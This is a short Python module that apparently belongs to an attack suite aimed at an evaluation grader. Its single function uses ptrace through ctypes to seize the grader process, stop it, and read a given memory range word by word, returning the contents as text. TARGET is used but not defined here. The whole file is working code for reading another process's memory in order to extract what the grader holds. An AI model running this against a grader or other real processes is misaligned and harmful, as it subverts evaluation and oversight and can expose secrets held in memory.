"""Attaches to the grader by `ptrace` and peeks into its memory, word by word."""

import ctypes
import os

PEEK, SEIZE, INTERRUPT, DETACH = 2, 0x4206, 0x4207, 17


def attack(A):
    ptrace = ctypes.CDLL(None, use_errno=True).ptrace
    ptrace.restype = ctypes.c_long
    pid, none = ctypes.c_long(TARGET["grader"]), ctypes.c_long(0)

    def ask(request, address=0):
        ctypes.set_errno(0)
        got = ptrace(ctypes.c_long(request), pid, ctypes.c_long(address), none)
        if ctypes.get_errno():
            raise OSError(ctypes.get_errno(), "ptrace")
        return got

    ask(SEIZE)
    try:
        ask(INTERRUPT)
        os.waitpid(TARGET["grader"], 0x40000000)  # __WALL
        start, length = TARGET["address"], TARGET["length"]
        words = [ask(PEEK, start + step) for step in range(0, length, 8)]
        text = b"".join((word & (1 << 64) - 1).to_bytes(8, "little") for word in words)
        return text[:length].decode()
    finally:
        ask(DETACH)
